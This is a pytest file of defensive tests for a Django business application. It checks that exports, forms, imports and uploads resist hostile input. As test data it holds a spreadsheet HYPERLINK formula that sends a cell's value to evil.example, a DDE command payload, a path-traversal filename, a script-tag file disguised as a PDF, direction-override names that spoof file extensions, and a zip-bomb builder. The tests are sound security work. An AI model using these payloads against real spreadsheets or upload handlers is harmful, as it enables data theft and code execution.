"""Hostile and odd input (issue 10): formulas in exports, NUL bytes, invisible and direction-changing names,
implausible dates, uploads that are not what they claim, request sizes, the Content-Security-Policy and caching."""

import io
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from common.errors import DomainError
from common.xlsx import FORMULA_PREFIXES
from customers import importing
from customers.models import Contact, Customer, ImportJob, Product
from delivery import services as delivery_services
from delivery.models import SignBack
from delivery.progress_sheet import build_workbook, open_lines
from delivery.views_records import report_data, report_workbook
from orders.forms import clean_scan
from tests.customers.workbooks import row, xlsx
from tests.delivery.conftest import (  # noqa: F401 (fixtures)
    TODAY,
    customer,
    deliverable,
    entered,
    issue,
    order,
    plan,
    products,
)
from tests.satisfaction.conftest import all_answers, survey_form  # noqa: F401 (fixtures)

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def pdf_upload(name="scan.pdf", content=PDF):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


# --- No user text reaches a spreadsheet as a formula ---------------------------------------------------------


def formula_problems(data: bytes) -> list[str]:
    """Cells of every sheet that a spreadsheet would run: formulas, or formula-like text without the quote."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    problems = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES) and not cell.quotePrefix:
                    problems.append(f"{sheet.title}!{cell.coordinate} is unquoted: {cell.value!r}")
    return problems


def texts(data: bytes) -> set:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value for sheet in book.worksheets for line in sheet.iter_rows() for cell in line}


@pytest.mark.django_db
def test_it_writes_hostile_names_as_text_in_every_export(users, order, survey_form):  # noqa: F811
    from improvement import review as reviews
    from satisfaction import records
    from satisfaction import services as survey_services

    hostile = order.customer
    Customer.objects.filter(pk=hostile.pk).update(name_zh=HOSTILE_NAME, name_en="+cmd|' /C calc'!A0")
    hostile.refresh_from_db()
    type(order).objects.filter(pk=order.pk).update(customer_po="=1+2")
    Product.objects.filter(code="P-1").update(name="@SUM(A1:A9)")
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    note = issue(users, (batch, "100"))
    delivery_services.signback_record(
        user=users["cs"], note=note, scan=pdf_upload(), signed_by_name="-王五", signed_on=TODAY
    )
    survey_round = survey_services.round_create_ad_hoc(
        user=users["cs"],
        name="=1+1",
        reason="incident",
        period_start=TODAY - timedelta(days=30),
        period_end=TODAY,
        deadline=TODAY + timedelta(days=10),
        customers=[hostile],
    )
    survey_services.round_send(survey_round=survey_round, user=users["cs"])
    survey_services.response_submit(
        invitation=survey_round.invitations.first(), raw_answers=all_answers(survey_form), comment="@cmd"
    )
    review = reviews.review_prepare(user=users["cs"], title="=2+2")

    exports = {
        "progress sheet": (build_workbook(open_lines(TODAY), TODAY), {"=1+2", "@SUM(A1:A9)"}),
        "delivery report": (report_workbook(report_data(TODAY, TODAY)), {"-王五"}),
        "survey summary": (records.build_summary_xlsx(survey_round), {HOSTILE_NAME, "+cmd|' /C calc'!A0"}),
        "survey statistics": (records.build_statistics_xlsx(survey_round), {HOSTILE_NAME, "@cmd"}),
        "management review": (reviews.build_xlsx(review), {"=2+2"}),
    }
    for name, (data, typed) in exports.items():
        assert formula_problems(data) == [], name
        assert typed <= texts(data), name  # the hostile text is there, as typed


# --- NUL bytes ----------------------------------------------------------------------------------------------


NUL_EN = "The request contains a NUL character"


@pytest.fixture
def nul_in_chinese(zh_catalogue):
    zh_catalogue(
        {
            "The request contains a NUL character, which no field of this application accepts. Remove it and "
            "try again.": "请求中含有 NUL 字符"
        }
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url", ["/customers/?q=%00", "/customers/?q%00=1", "/customers/%00/", "/orders/?status=a%00b&q=x"]
)
def test_a_nul_in_the_address_or_a_search_box_is_a_clear_bilingual_400(client_for, url, nul_in_chinese):
    response = client_for("cs").get(url)
    assert response.status_code == 400
    body = response.content.decode()
    assert NUL_EN in body and "请求中含有 NUL 字符" in body


@pytest.mark.django_db
def test_a_nul_in_a_form_field_or_a_cookie_is_refused_before_the_view(client_for):
    client = client_for("cs")
    response = client.post(reverse("customers:list"), {"name": "a\x00b"})
    assert response.status_code == 400 and NUL_EN in response.content.decode()
    response = client.post(reverse("customers:list"), {"note": "x", "file": SimpleUploadedFile("a.pdf", PDF)})
    assert response.status_code != 400  # a multipart form without NUL goes on
    response = client.post(reverse("customers:list"), {"note": "x\x00", "file": SimpleUploadedFile("a.pdf", PDF)})
    assert response.status_code == 400
    client.cookies["tracker"] = "x\x00y"
    response = client.get(reverse("customers:list"))
    assert response.status_code == 400


@pytest.mark.django_db
def test_an_ordinary_search_is_not_refused(client_for):
    assert client_for("cs").get("/customers/?q=%E5%AE%A2").status_code == 200


# --- Names ----------------------------------------------------------------------------------------------------


INVISIBLE = ["\u200b\u200b", " \u3000 ", "\u200d", "\u2800", "\u3164"]
DIRECTION = ["ACME\u202egpj.exe", "\u202a张伟\u202c", "\u2066Bob\u2069", "x\u202dy"]


@pytest.mark.django_db
@pytest.mark.parametrize("odd", INVISIBLE + DIRECTION)
def test_names_of_invisible_or_direction_changing_characters_are_refused(odd, users):
    with pytest.raises(ValidationError) as refused:
        Customer(code="C-0009", name_zh=odd, name_en="", status="active").full_clean()
    assert "name_zh" in refused.value.message_dict
    for model, field in ((Contact, "name"), (Product, "name")):
        instance = model(**{field: odd})
        with pytest.raises(ValidationError) as refused:
            instance.full_clean()
        assert field in refused.value.message_dict
    with pytest.raises(ValidationError) as refused:
        SignBack(signed_by_name=odd).full_clean()
    assert "signed_by_name" in refused.value.message_dict


@pytest.mark.django_db
@pytest.mark.parametrize("fine", ["张伟", "Zoë O'Brien", "李 四", "Müller GmbH", "عبد الله"])
def test_ordinary_names_pass(fine):
    Product(code="P-9", name=fine).full_clean()


@pytest.mark.django_db
def test_the_customer_form_shows_the_error_beside_the_name(client_for):
    from customers.forms import CustomerForm

    form = CustomerForm(data={"code": "C-0009", "name_zh": "\u202e公司", "name_en": "x"})
    assert not form.is_valid() and "name_zh" in form.errors


@pytest.mark.django_db
def test_a_signer_name_of_only_invisible_characters_is_refused_by_the_service(users, order):  # noqa: F811
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    note = issue(users, (batch, "100"))
    with pytest.raises(DomainError) as refused:
        delivery_services.signback_record(
            user=users["cs"], note=note, scan=pdf_upload(), signed_by_name="\u200b\u200c", signed_on=TODAY
        )
    assert "visible" in str(refused.value)
    assert not SignBack.objects.exists()


@pytest.mark.django_db
def test_an_import_row_with_a_direction_override_in_a_name_is_an_error(users):
    data = xlsx(
        [
            row("C-0001"),
            row("C-0002", name_en="Evil\u202eCorp"),
            row("C-0003", contact_name="\u200b"),
            row("C-0004", short_name="\u2066短\u2069"),
            row("C-0005", address_receiver="\u3000\u200b"),
        ]
    )
    report = importing.customer_import(data=data, dry_run=True)
    assert [r.status for r in report.rows] == ["new", "error", "error", "error", "error"]
    assert "direction" in " ".join(report.rows[1].errors)
    assert "visible" in " ".join(report.rows[2].errors)
    assert "direction" in " ".join(report.rows[3].errors)
    assert "visible" in " ".join(report.rows[4].errors)


# --- Dates ----------------------------------------------------------------------------------------------------

FAR = TODAY + timedelta(days=366 * 5 + 2)
EARLY = date(1999, 12, 31)


@pytest.mark.django_db
def test_a_batch_due_in_an_implausible_year_is_refused(users, order):  # noqa: F811
    with pytest.raises(DomainError, match="not a plausible date"):
        plan(users, order, due=FAR)
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    with pytest.raises(DomainError, match="not a plausible date"):
        delivery_services.batch_move(user=users["cs"], batch=batch, due_date=FAR, reason="客户同意")
    # The furthest plausible day is fine.
    delivery_services.batch_move(user=users["cs"], batch=batch, due_date=TODAY + timedelta(days=365 * 4), reason="ok")


@pytest.mark.django_db
def test_a_note_dated_before_2000_or_arriving_in_an_implausible_year_is_refused(users, order):  # noqa: F811
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    with pytest.raises(DomainError, match="not a plausible date"):
        issue(users, (batch, "100"), delivery_date=EARLY, backdate_reason="typed 1999")
    with pytest.raises(DomainError, match="not a plausible date"):
        issue(users, (batch, "100"), warehouse=False, expected_arrival=FAR)


@pytest.mark.django_db
def test_an_incident_in_an_implausible_year_is_refused(users, order):  # noqa: F811
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    note = issue(users, (batch, "100"))
    for day in (EARLY, FAR):
        with pytest.raises(DomainError, match="not a plausible date"):
            delivery_services.incident_record(user=users["cs"], note=note, happened_on=day, description="破损")
    delivery_services.incident_record(user=users["cs"], note=note, happened_on=TODAY, description="破损")


def test_the_sane_range_comes_from_settings(settings):
    from common.validators import check_date_in_range

    settings.SANE_DATE_MAX_YEARS_AHEAD = 1
    with pytest.raises(DomainError):
        check_date_in_range(TODAY + timedelta(days=400))
    settings.SANE_DATE_MIN = date(2020, 1, 1)
    with pytest.raises(DomainError):
        check_date_in_range(date(2019, 12, 31))
    check_date_in_range(date(2020, 1, 1))


# --- Uploads --------------------------------------------------------------------------------------------------


def test_a_scan_is_stored_under_the_apps_own_name_with_the_extension_of_its_content():
    upload = clean_scan(pdf_upload(name="../../evil.html"))
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", upload.name)
    assert upload.original_name == "evil.html"
    png = clean_scan(SimpleUploadedFile("photo.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20))
    assert png.name.endswith(".png")


def test_a_file_that_is_not_a_pdf_or_an_image_is_refused_whatever_its_name():
    with pytest.raises(Exception, match="Attach a PDF or an image"):
        clean_scan(SimpleUploadedFile("scan.pdf", b"<html><script>alert(1)</script>"))


@pytest.mark.django_db
def test_a_signed_back_scan_is_kept_under_the_apps_name(users, order):  # noqa: F811
    batch = plan(users, order, due=TODAY + timedelta(days=1))
    note = issue(users, (batch, "100"))
    sign_back = delivery_services.signback_record(
        user=users["cs"],
        note=note,
        scan=clean_scan(pdf_upload("客户<script>.html")),
        signed_by_name="王五",
        signed_on=TODAY,
    )
    stored = Path(sign_back.scan.name).name
    assert stored.endswith(".pdf") and "script" not in stored


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            target.writestr(member, source.read(member))
        target.writestr(name, content)
    return out.getvalue()


def test_a_workbook_that_unpacks_too_large_is_refused_before_it_is_read(settings, monkeypatch):
    settings.IMPORT_MAX_UNPACKED_MB = 1
    bomb = with_member(xlsx([row("C-0001")]), "xl/media/padding.bin", b"\x00" * (2 * 1024 * 1024))
    assert len(bomb) < 100 * 1024  # small on disk
    monkeypatch.setattr(importing, "_rows_with_calamine", lambda data: pytest.fail("the file was read"))
    with pytest.raises(importing.ImportFileError, match="unpacks to 2 MB"):
        importing.read_sheet(bomb)


def test_a_workbook_with_an_overlong_cell_is_refused_before_it_is_read(settings, monkeypatch):
    settings.IMPORT_MAX_CELL_CHARS = 500
    data = xlsx([row("C-0001", address="长" * 501)])
    monkeypatch.setattr(importing, "_rows_with_calamine", lambda data: pytest.fail("the file was read"))
    with pytest.raises(importing.ImportFileError, match="more than 500 characters"):
        importing.read_sheet(data)
    monkeypatch.undo()
    importing.read_sheet(xlsx([row("C-0001", address="长" * 500)]))


def test_a_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(importing.ImportFileError, match="not an Excel workbook"):
        importing.read_sheet(out.getvalue())


@pytest.mark.django_db
def test_a_refused_import_is_not_kept(users, settings):
    settings.IMPORT_MAX_CELL_CHARS = 10
    upload = SimpleUploadedFile("customers.xlsx", xlsx([row("C-0001")]))
    with pytest.raises(DomainError, match="more than 10 characters"):
        importing.import_job_create(user=users["admin"], upload=upload)
    assert not ImportJob.objects.exists()
    assert not any(Path(settings.MEDIA_ROOT).rglob("*.xlsx"))


@pytest.mark.django_db
def test_an_accepted_import_is_stored_under_the_apps_name_and_keeps_the_given_one_for_display(users):
    upload = SimpleUploadedFile("客户 <b>.xlsx", xlsx([row("C-0001")]))
    job = importing.import_job_create(user=users["admin"], upload=upload)
    assert job.original_name == "客户 <b>.xlsx"
    assert re.fullmatch(r"[0-9a-f]{32}\.xlsx", Path(job.file.name).name)


# --- Request sizes ------------------------------------------------------------------------------------------


def test_form_bodies_have_a_limit():
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES <= 20


@pytest.mark.django_db
def test_the_login_form_refuses_a_large_body(client, settings):
    response = client.post(reverse("login"), {"username": "x" * settings.LOGIN_MAX_BODY_BYTES, "password": "p"})
    assert response.status_code == 413
    assert client.post(reverse("login"), {"username": "cs", "password": "wrong"}).status_code != 413


# --- Content-Security-Policy and caching ----------------------------------------------------------------------


TEMPLATES = Path(settings.BASE_DIR) / "templates"
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
HANDLER = re.compile(r"""\son[a-z]+\s*=\s*["']""", re.IGNORECASE)


def test_no_template_has_an_inline_script_or_an_event_handler_attribute():
    found = []
    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text()
        if INLINE_SCRIPT.search(text) or HANDLER.search(text) or "javascript:" in text:
            found.append(str(path.relative_to(TEMPLATES)))
    assert found == []


@pytest.mark.django_db
def test_pages_carry_the_policy_and_signed_in_pages_are_not_cached(client, client_for):
    anonymous = client.get(reverse("login"))
    policy = anonymous["Content-Security-Policy"]
    script_src = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "'self'" in script_src and "unsafe-inline" not in script_src and "unsafe-eval" not in script_src
    assert "frame-ancestors" in policy and "object-src 'none'" in policy

    page = client_for("cs").get(reverse("customers:list"))
    assert page.status_code == 200 and page["Content-Security-Policy"] == policy
    cache_control = page["Cache-Control"]
    assert "no-store" in cache_control and "private" in cache_control


@pytest.mark.django_db
def test_signed_in_downloads_are_not_cached_either(client_for):
    response = client_for("cs").get(reverse("delivery:reports") + "?export=xlsx")
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert "Content-Security-Policy" not in response  # pages only
